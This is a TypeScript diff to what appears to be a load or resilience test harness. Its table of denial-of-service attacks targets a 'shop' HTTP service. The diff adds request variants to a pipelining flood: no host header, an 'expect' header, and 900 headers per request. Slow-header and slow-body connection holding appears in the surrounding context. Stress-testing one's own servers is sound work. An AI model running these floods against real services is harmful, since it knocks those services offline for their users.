@@ -96,12 +96,12 @@ const batch = (size: number, run: string): string =>
   });
 
 /** Requests one after the other on connections whose answers nobody reads. */
-const pipeline = (connections: number): Promise<unknown> =>
+const pipeline = (connections: number, request = 'GET /docs HTTP/1.1\r\nhost: shop\r\n\r\n'): Promise<unknown> =>
   many(connections, (index) =>
     flood(
       index,
       function* () {
-        const requests = Buffer.from('GET /docs HTTP/1.1\r\nhost: shop\r\n\r\n'.repeat(1000));
+        const requests = Buffer.from(request.repeat(1000));
         for (;;) yield requests;
       },
       'unread',
@@ -121,6 +121,16 @@ const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
   pipelining: () => pipeline(200),
   /** The same at once from so many addresses that to shut out one of them stops little. */
   pipelining_of_many: () => pipeline(400),
+  /** Node answers these itself. */
+  no_host: () => pipeline(384, 'GET / HTTP/1.1\r\n\r\n'),
+  expect: () => pipeline(384, 'GET / HTTP/1.1\r\nhost: shop\r\nexpect: a\r\n\r\n'),
+  many_headers: () =>
+    many(64, (index) =>
+      flood(index, function* () {
+        const headers = Array.from({ length: 900 }, (_, number) => `a${number}: b\r\n`).join('');
+        yield `GET / HTTP/1.1\r\nhost: shop\r\nconnection: close\r\n${headers}\r\n`;
+      }),
+    ),
   held_connections: () => hold(3000, '', null),
   slow_headers: () => hold(3000, 'POST /v1/orders HTTP/1.1\r\nhost: shop\r\n', 'x-a: b\r\n'),
   slow_bodies: () => hold(3000, `${head(`${signed}content-length: 1000000\r\n`)}${' '.repeat(2000)}`, ' '.repeat(500)),
